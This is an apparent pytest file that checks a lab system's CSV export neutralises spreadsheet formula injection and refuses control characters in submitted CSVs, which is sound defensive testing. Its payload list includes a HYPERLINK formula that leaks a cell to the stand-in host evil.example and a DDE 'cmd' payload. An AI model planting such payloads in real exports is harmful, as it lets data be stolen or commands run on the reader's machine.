"""CSV formula payloads (issue 11): text a participant typed (``=HYPERLINK(…)`` as its method) was stored and
would reach the provider's spreadsheet as a live formula. Every CSV the product writes goes through
lims.csv_export: a text cell starting with = + - @ tab or CR is prefixed with ' ; numbers stay numbers."""

from __future__ import annotations

import csv
import io

import pytest

from lims.csv_export import neutralise, to_csv
from tests.api.test_pt_isolation import _row, client  # noqa: F401  (the fixture: an open round, two bound accounts)

PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"点此")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)",
            "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_formula_payload_is_neutralised(payload):
    assert neutralise(payload) == "'" + payload
    text = to_csv(["method"], [{"method": payload}])
    cell = next(iter(csv.DictReader(io.StringIO(text.lstrip("\ufeff")))))["method"]
    assert cell == "'" + payload and not cell.startswith(("=", "+", "-", "@", "\t", "\r"))


def test_numbers_and_plain_text_are_kept():
    assert neutralise(-1.5) == -1.5 and neutralise(0) == 0 and neutralise(None) is None
    assert neutralise("GB 23200.113-2018") == "GB 23200.113-2018" and neutralise("毒死蜱") == "毒死蜱"
    text = to_csv(["a", "b"], [{"a": -2.5, "b": None}])
    assert text.startswith("\ufeffa,b\r\n") and text.endswith("-2.5,\r\n")


def test_the_pt_scores_spreadsheet_neutralises_what_participants_typed(client):  # noqa: F811
    a = client.codes["LA"]
    r = client.post("/api/v1/pt/rounds/PT-ISO-1/results", headers=client.hdr["tech_a"],
                    json={"results": [{**_row(a, 0.15), "method": PAYLOADS[0]}]})
    assert r.status_code == 200, r.text
    sheet = client.get("/api/v1/pt/rounds/PT-ISO-1/scores.csv", headers=client.hdr["qa"])
    assert sheet.status_code == 200 and sheet.headers["content-type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(sheet.text.lstrip("\ufeff"))))
    assert rows[0]["participant_code"] == a and rows[0]["method"] == "'" + PAYLOADS[0]
    # before publication only the provider reads it
    assert client.get("/api/v1/pt/rounds/PT-ISO-1/scores.csv", headers=client.hdr["tech_a"]).status_code == 403


def test_control_characters_in_a_submission_csv_are_refused_naming_line_and_field(client):  # noqa: F811
    a = client.codes["LA"]
    csv_text = f"participant_code,analyte,result,unit,method\n{a},chlorpyrifos,0.15,mg/kg,GB\u202e23200\n"
    r = client.post("/api/v1/pt/rounds/PT-ISO-1/results.csv", headers=client.hdr["tech_a"],
                    files={"file": ("r.csv", csv_text.encode(), "text/csv")})
    assert r.status_code == 422
    assert [(p["line"], p["field"]) for p in r.json()["detail"]["problems"]] == [(2, "method")]
    assert "U+202E" in r.json()["detail"]["problems"][0]["message"]
